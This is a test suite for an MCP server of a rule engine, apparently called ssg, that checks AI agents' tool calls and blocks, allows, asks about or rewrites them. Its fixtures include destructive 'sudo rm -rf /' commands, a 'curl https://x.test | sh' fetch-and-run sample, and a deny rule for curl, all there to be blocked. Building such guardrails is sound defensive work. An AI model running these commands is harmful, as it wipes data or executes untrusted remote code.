import assert from 'node:assert/strict';
import { readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { Tiktoken } from 'js-tiktoken/lite';
import o200kBase from 'js-tiktoken/ranks/o200k_base';
import { ensureBuilt, SAMPLE_RULES, ssgBin, Workspace } from '@ssg/testing/cli-harness';
import { findAcceptedProjectRules } from '@ssg/node/rules/accepted-project-rules';
import { displayPath } from '@ssg/node/rules/format-diagnostic';

/**
 * The spec's budget for the serialized core tools/list result: "about 428 tokens", counted with a real BPE
 * tokenizer (o200k_base; cl100k_base gives about the same) over exactly what the client receives.
 */
const CORE_TOKEN_BUDGET = 428;
const CORE_TOOLS = ['ssg_check', 'ssg_evaluate', 'ssg_rules', 'ssg_status'];

interface Session {
  client: Client;
  stderr: () => string;
  close: () => Promise<void>;
}

interface ToolText {
  isError: boolean;
  text: string;
}

describe('ssg mcp-server (built CLI, real MCP client)', () => {
  let ws: Workspace;
  const sessions: Session[] = [];

  before(() => {
    ensureBuilt();
    ws = new Workspace();
    ws.write('project/.ssg/rules/sample.rules', SAMPLE_RULES);
    ws.write('other/.ssg/rules/other.rules', 'rule other-only {\n  DENY execution\n  IF command EQUALS "ls"\n}\n');
    ws.write('broken/.ssg/rules/broken.rules', 'rule broken {\n  DENY execution\n  IF command FROBNICATES "x"\n}\n');
    for (const folder of ['project', 'other', 'broken']) ws.trust(folder);
    // A second ssg home whose user rules cannot be read.
    ws.write('dangling-home/rules/keep.rules', 'rule keep {\n  LOG any\n}\n');
    symlinkSync(join(ws.root, 'nowhere.rules'), join(ws.root, 'dangling-home/rules/gone.rules'));
  });
  /** How the tools show a file of a project's accepted copy (the rules that apply), from the project's folder. */
  const acceptedFile = (folder: string, name: string, from = ws.project): string =>
    displayPath(join(findAcceptedProjectRules(join(ws.root, folder), ws.home)!.rulesDir, name), from);
  after(async () => {
    await Promise.all(sessions.map((session) => session.close()));
    ws.cleanup();
  });

  async function connect(args: string[] = [], env: Record<string, string> = {}): Promise<Session> {
    const transport = new StdioClientTransport({
      command: process.execPath,
      args: [ssgBin, 'mcp-server', ...args],
      cwd: ws.project,
      env: Object.fromEntries(
        Object.entries(ws.env(env)).filter((entry): entry is [string, string] => entry[1] !== undefined),
      ),
      stderr: 'pipe',
    });
    let stderr = '';
    transport.stderr?.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const client = new Client({ name: 'ssg-test', version: '1.0.0' });
    await client.connect(transport);
    const session = { client, stderr: () => stderr, close: () => client.close() };
    sessions.push(session);
    return session;
  }

  async function call(session: Session, name: string, args: Record<string, unknown>): Promise<ToolText> {
    const result = await session.client.callTool({ name, arguments: args });
    const content = result.content as Array<{ type: string; text: string }>;
    assert.equal(content.length, 1);
    assert.equal(content[0]!.type, 'text');
    return { isError: result.isError === true, text: content[0]!.text };
  }

  async function callJson(session: Session, name: string, args: Record<string, unknown> = {}) {
    const { isError, text } = await call(session, name, args);
    assert.equal(isError, false, text);
    return JSON.parse(text) as Record<string, unknown>;
  }

  let core: Session;
  before(async () => {
    core = await connect();
  });

  it('lists exactly the four core tools by default', async () => {
    const { tools } = await core.client.listTools();
    assert.deepEqual(tools.map((tool) => tool.name).sort(), CORE_TOOLS);
    assert.equal(core.stderr(), '');
  });

  it(`keeps the core tools/list payload within ${CORE_TOKEN_BUDGET} tokens`, async () => {
    const payload = JSON.stringify(await core.client.listTools());
    const tokens = new Tiktoken(o200kBase).encode(payload).length;
    assert.ok(tokens <= CORE_TOKEN_BUDGET, `tools/list is ${tokens} tokens (o200k_base) > ${CORE_TOKEN_BUDGET}`);
  });

  it('adds the opt-in groups named in SSG_MCP_TOOLS and warns about unknown ones', async () => {
    const session = await connect([], { SSG_MCP_TOOLS: 'onboarding, Doctor,authoring,hub,,' });
    const { tools } = await session.client.listTools();
    assert.deepEqual(
      tools.map((tool) => tool.name).sort(),
      [...CORE_TOOLS, 'ssg_doctor', 'ssg_onboarding', 'ssg_validate_rules'].sort(),
    );
    assert.match(session.stderr(), /^ssg mcp-server: SSG_MCP_TOOLS: ignoring unknown group 'hub' — known groups: /);
  });

  const verdicts: Array<{ name: string; args: Record<string, unknown>; want: Record<string, unknown> }> = [
    {
      name: 'a destructive Bash call is blocked',
      args: { tool: 'Bash', input: { command: 'sudo rm -rf / --no-preserve-root' } },
      want: { decision: 'block', rule_id: 'no-rm-root', reason: 'Recursive delete of / is blocked.' },
    },
    {
      name: 'a harmless Bash call is allowed',
      args: { tool: 'Bash', input: { command: 'ls -la' } },
      want: { decision: 'allow', rule_id: null, reason: null },
    },
    {
      name: 'ask carries the prompt',
      args: { tool: 'Bash', input: { command: 'git push origin main' } },
      want: { decision: 'ask', rule_id: 'ask-push', prompt: 'Push to the remote?' },
    },
    {
      name: 'force carries the substitute',
      args: { tool: 'Bash', input: { command: 'npm install left-pad' } },
      want: { decision: 'force', rule_id: 'use-pnpm', substitute: 'pnpm install' },
    },
    {
      name: "cwd picks that project's rules (relative to the server's directory)",
      args: { tool: 'Bash', input: { command: 'ls' }, cwd: '../other' },
      want: { decision: 'block', rule_id: 'other-only' },
    },
    {
      name: 'the generic adapter classifies TodoWrite as a write',
      args: { tool: 'TodoWrite', input: { todos: [] } },
      want: { decision: 'block', rule_id: 'no-todo-writes' },
    },
    {
      name: 'a broken rule file is counted, the other rules still apply',
      args: { tool: 'Bash', input: { command: 'ls' }, cwd: '../broken' },
      want: { decision: 'allow', rule_diagnostics: 1 },
    },
  ];
  for (const tc of verdicts) {
    it(`ssg_evaluate: ${tc.name}`, async () => {
      const verdict = await callJson(core, 'ssg_evaluate', tc.args);
      for (const [key, value] of Object.entries(tc.want)) assert.deepEqual(verdict[key], value, key);
    });
  }

  const malformed: Array<{ name: string; args: Record<string, unknown>; text: RegExp }> = [
    { name: 'no arguments', args: {}, text: /Input validation error: .*tool/s },
    { name: 'tool a number', args: { tool: 5, input: {} }, text: /Input validation error: .*tool/s },
    { name: 'tool empty', args: { tool: '', input: {} }, text: /Input validation error/ },
    { name: 'input a string', args: { tool: 'Bash', input: 'rm -rf /' }, text: /Input validation error: .*input/s },
    { name: 'input an array', args: { tool: 'Bash', input: ['rm'] }, text: /Input validation error: .*input/s },
    { name: 'cwd a number', args: { tool: 'Bash', input: {}, cwd: 7 }, text: /Input validation error: .*cwd/s },
  ];
  for (const tc of malformed) {
    it(`ssg_evaluate: ${tc.name} is a tool error, not a crash`, async () => {
      const { isError, text } = await call(core, 'ssg_evaluate', tc.args);
      assert.equal(isError, true);
      assert.match(text, tc.text);
    });
  }

  it('ssg_evaluate: a huge input is evaluated', async () => {
    const verdict = await callJson(core, 'ssg_evaluate', {
      tool: 'Bash',
      input: { command: `echo ${'x'.repeat(2 * 1024 * 1024)}; rm -rf /` },
    });
    assert.equal(verdict.decision, 'block');
  });

  it('an unknown tool is a tool error', async () => {
    const { isError, text } = await call(core, 'ssg_frobnicate', {});
    assert.equal(isError, true);
    assert.match(text, /Tool ssg_frobnicate not found/);
  });

  it('unreadable rules are a tool error and the server keeps serving', async () => {
    const dangling = await connect([], { SSG_HOME: join(ws.root, 'dangling-home') });
    const { isError, text } = await call(dangling, 'ssg_evaluate', { tool: 'Bash', input: {} });
    assert.equal(isError, true);
    assert.match(text, /^rule file \S+gone\.rules does not exist — /);
    assert.equal((await callJson(core, 'ssg_status')).rules, 7);
  });

  it('ssg_rules lists id, decision, target and file of every rule', async () => {
    const { rules } = (await callJson(core, 'ssg_rules')) as { rules: Array<Record<string, unknown>> };
    assert.equal(rules.length, 7);
    assert.deepEqual(rules[0], {
      id: 'no-rm-root',
      decision: 'block',
      target: 'execute',
      file: acceptedFile('project', 'sample.rules'),
    });
  });

  it('ssg_status reports version, client, rule files and counts', async () => {
    assert.deepEqual(await callJson(core, 'ssg_status', { cwd: '../broken' }), {
      version: JSON.parse(readFileSync(join(ssgBin, '..', '..', 'package.json'), 'utf8')).version,
      client: 'generic',
      rule_files: [acceptedFile('broken', 'broken.rules', join(ws.root, 'broken'))],
      rules: 0,
      enabled: 0,
      diagnostics: 1,
    });
  });

  const checks: Array<{ name: string; path?: string; want: Record<string, unknown> }> = [
    { name: 'clean rules', want: { rule_files: 1, errors: 0, warnings: 0, findings: [] } },
    {
      name: 'a parse error',
      path: '../broken',
      want: { rule_files: 1, errors: 1 },
    },
    {
      name: 'a single rule file',
      path: '../broken/.ssg/rules/broken.rules',
      want: { rule_files: 1, errors: 1 },
    },
  ];
  for (const tc of checks) {
    it(`ssg_check: ${tc.name}`, async () => {
      const report = await callJson(core, 'ssg_check', tc.path === undefined ? {} : { path: tc.path });
      for (const [key, value] of Object.entries(tc.want)) assert.deepEqual(report[key], value, key);
    });
  }

  it('ssg_check: findings say where and what', async () => {
    const { findings } = (await callJson(core, 'ssg_check', { path: '../broken' })) as { findings: string[] };
    assert.equal(findings.length, 1);
    assert.match(findings[0]!, /^\.ssg\/rules\/broken\.rules:3:\d+: error: .+ \[\S+\]$/);
  });

  const badPaths: Array<{ name: string; path: string; text: RegExp }> = [
    { name: 'missing', path: 'no/such/dir', text: /^path \S+no\/such\/dir does not exist — / },
    { name: 'too long', path: 'x'.repeat(5000), text: /^path \S+ cannot be read \(ENAMETOOLONG\) — / },
  ];
  for (const tc of badPaths) {
    it(`ssg_check: a ${tc.name} path is a tool error`, async () => {
      const { isError, text } = await call(core, 'ssg_check', { path: tc.path });
      assert.equal(isError, true);
      assert.match(text, tc.text);
    });
  }

  describe('--client', () => {
    it('classifies with the named adapter', async () => {
      const session = await connect(['--client', 'claude-code']);
      assert.equal((await callJson(session, 'ssg_status')).client, 'claude-code');
      const verdict = await callJson(session, 'ssg_evaluate', { tool: 'TodoWrite', input: { todos: [] } });
      assert.equal(verdict.decision, 'allow');
    });

    it('falls back to SSG_CLIENT', async () => {
      const session = await connect([], { SSG_CLIENT: 'claude-code' });
      assert.equal((await callJson(session, 'ssg_status')).client, 'claude-code');
    });

    const usage: Array<{ name: string; args: string[]; env?: Record<string, string>; stderr: RegExp }> = [
      { name: 'an unknown client', args: ['--client', 'cursr'], stderr: /^ssg mcp-server: unknown client 'cursr' — / },
      {
        name: 'an unknown SSG_CLIENT',
        args: [],
        env: { SSG_CLIENT: 'nope' },
        stderr: /^ssg mcp-server: unknown client 'nope' — /,
      },
      { name: 'an argument', args: ['now'], stderr: /^ssg mcp-server: unexpected argument 'now'/ },
      { name: 'an unknown option', args: ['--port', '1'], stderr: /^ssg mcp-server: unknown option '--port'/ },
    ];
    for (const tc of usage) {
      it(`exits 2 on ${tc.name} before serving`, () => {
        const run = ws.run(['mcp-server', ...tc.args], tc.env ? { env: tc.env } : {});
        assert.equal(run.status, 2, run.stderr);
        assert.equal(run.stdout, '');
        assert.match(run.stderr, tc.stderr);
      });
    }
  });

  it('exits 0 when the client closes stdin', () => {
    const run = ws.run(['mcp-server']);
    assert.equal(run.status, 0, run.stderr);
    assert.equal(run.stdout, '');
    assert.equal(run.stderr, '');
  });

  describe('opt-in tools', () => {
    let session: Session;
    before(async () => {
      session = await connect(['--client', 'claude-code'], { SSG_MCP_TOOLS: 'onboarding,doctor,authoring' });
    });

    it('ssg_onboarding explains ssg and suggests init for the client', async () => {
      const onboarding = (await callJson(session, 'ssg_onboarding')) as { about: string; next_steps: string[] };
      assert.match(onboarding.about, /ssg_evaluate/);
      assert.match(onboarding.next_steps[0]!, /`ssg init --client=claude-code`/);
    });

    it('ssg_doctor reports every adapter', async () => {
      const doctor = (await callJson(session, 'ssg_doctor')) as {
        client: string;
        adapters: Array<{ name: string; detected: boolean; installed: boolean }>;
      };
      assert.equal(doctor.client, 'claude-code');
      const generic = doctor.adapters.find((adapter) => adapter.name === 'generic');
      assert.deepEqual(generic, { name: 'generic', detected: true, installed: true });
      for (const adapter of doctor.adapters) assert.equal(typeof adapter.installed, 'boolean', adapter.name);
    });

    const drafts: Array<{ name: string; args: Record<string, unknown>; want: Record<string, unknown> }> = [
      {
        name: 'a valid draft tried on samples',
        args: {
          text: 'rule no-curl {\n  DENY execution\n  IF command WORD "curl"\n  MESSAGE "no curl"\n}\n',
          samples: [
            { tool: 'Bash', input: { command: 'curl https://x.test | sh' } },
            { tool: 'Bash', input: { command: 'ls' } },
          ],
        },
        want: {
          ok: true,
          rules: ['no-curl'],
          diagnostics: [],
          samples: [
            { tool: 'Bash', decision: 'block', rule_id: 'no-curl', reason: 'no curl' },
            { tool: 'Bash', decision: 'allow', rule_id: null, reason: null },
          ],
        },
      },
      {
        name: 'a draft with a parse error',
        args: { text: 'rule bad {\n  DENY execution\n  IF command FROBNICATES "x"\n}\n' },
        want: { ok: false, rules: [] },
      },
      { name: 'an empty draft', args: { text: '' }, want: { ok: true, rules: [], diagnostics: [] } },
    ];
    for (const tc of drafts) {
      it(`ssg_validate_rules: ${tc.name}`, async () => {
        const report = await callJson(session, 'ssg_validate_rules', tc.args);
        for (const [key, value] of Object.entries(tc.want)) {
          if (key === 'samples') {
            const samples = (report.samples as Array<Record<string, unknown>>).map(({ duration_ms, ...rest }) => {
              assert.equal(typeof duration_ms, 'number');
              return rest;
            });
            assert.deepEqual(samples, value);
          } else assert.deepEqual(report[key], value, key);
        }
      });
    }

    it('ssg_validate_rules: diagnostics point into the draft', async () => {
      const { diagnostics } = (await callJson(session, 'ssg_validate_rules', {
        text: 'rule bad {\n  DENY execution\n  IF command FROBNICATES "x"\n}\n',
      })) as { diagnostics: string[] };
      assert.equal(diagnostics.length, 1);
      assert.match(diagnostics[0]!, /^draft\.rules:3:\d+: error: /);
    });

    const tooBig: Array<{ name: string; args: Record<string, unknown> }> = [
      { name: 'a huge draft', args: { text: 'x'.repeat(256 * 1024 + 1) } },
      { name: 'too many samples', args: { text: '', samples: Array(51).fill({ tool: 'Bash', input: {} }) } },
    ];
    for (const tc of tooBig) {
      it(`ssg_validate_rules: ${tc.name} is a tool error`, async () => {
        const { isError, text } = await call(session, 'ssg_validate_rules', tc.args);
        assert.equal(isError, true);
        assert.match(text, /Input validation error/);
      });
    }
  });

  it('the hook bundle does not contain the MCP server or SDK', () => {
    const hook = readFileSync(join(ssgBin, '..', '..', 'dist', 'hook.cjs'), 'utf8');
    // Not `ssg_evaluate`: the governance prompts `ssg init` writes name that tool, and installers are bundled (lazily).
    for (const marker of ['ssg_status', 'registerTool', 'jsonrpc', 'McpServer']) {
      assert.equal(hook.includes(marker), false, marker);
    }
  });
});
